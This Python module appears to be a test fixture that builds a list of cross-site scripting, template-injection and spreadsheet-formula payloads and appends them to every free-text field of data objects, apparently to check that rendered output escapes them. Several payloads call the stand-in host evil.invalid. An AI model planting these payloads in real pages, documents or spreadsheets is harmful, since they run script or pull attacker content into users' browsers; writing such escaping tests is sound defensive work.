"""A brief whose every text is an attack, its ids included: the same id stays the same id everywhere."""

import dataclasses
import datetime as dt
import zlib
from collections.abc import Mapping
from pathlib import Path
from typing import Any, get_type_hints

import numpy as np

__all__ = ["PAYLOADS", "poisoned"]

_CALL = "pwned.push(1)"
PAYLOADS = (
    f"<script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f'"><img src=x onerror="{_CALL}">',
    f"'><svg onload='{_CALL}'>",
    f'" onmouseover="{_CALL}" autofocus onfocus="{_CALL}',
    f"<svg/onload={_CALL}>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f'<a href="javascript:{_CALL}" autofocus>x</a>',
    f"<math><mtext><style><img src=x onerror={_CALL}></style></mtext></math>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<video><source onerror={_CALL}></video>",
    f"<body onload={_CALL}>",
    "<base href=https://evil.invalid/><script src=a.js></script>",
    "<link rel=stylesheet href=https://evil.invalid/a.css>",
    "<img src=https://evil.invalid/a.png>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<style>@import 'https://evil.invalid/a.css';</style>",
    "<form action=https://evil.invalid/><button autofocus>x</button></form>",
    "{{ ''.__class__ }} {% for x in y %}",
    f"javascript:{_CALL}",
    f"datum.constructor.constructor('{_CALL}')()",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"<!--<script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"\u2028\u2029<script>{_CALL}</script>",
    f"`${{{_CALL}}}`",
    '=HYPERLINK("https://evil.invalid/")',
    f"&lt;img src=x onerror={_CALL}&gt;",
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    f"\u202e<script>{_CALL}</script>",
    "Z\u0338\u0310" * 40,
)
_FIXED = {
    "type", "quad", "status", "stance", "kind", "grade", "precision", "verdict", "step", "model", "form", "measure",
    "calendar", "vintage", "verb", "unit_class", "language",
}  # fmt: skip
_FIXED_VALUES = {"incidents", "cases", "deaths", "leading", "cut", "integrated"}


def poisoned(value: Any, *, salt: int, field: str = "") -> Any:
    """The value with a payload behind every text in it that somebody wrote: a field that can only hold one of a few
    words stays. Which payload depends on the text and on `salt`."""
    if isinstance(value, str):
        if not value or field in _FIXED or value in _FIXED_VALUES:
            return value
        return value + PAYLOADS[(zlib.crc32(value.encode()) + salt) % len(PAYLOADS)]
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        kinds = get_type_hints(type(value))
        changed = {part.name: poisoned(getattr(value, part.name), salt=salt, field=part.name)
                   for part in dataclasses.fields(value) if "Literal[" not in str(kinds[part.name])}  # fmt: skip
        return dataclasses.replace(value, **changed)
    if isinstance(value, Mapping):
        return {poisoned(key, salt=salt): poisoned(part, salt=salt) for key, part in value.items()}
    if isinstance(value, tuple):
        return tuple(poisoned(part, salt=salt, field=field) for part in value)
    assert value is None or isinstance(value, int | float | dt.date | Path | np.ndarray)
    return value
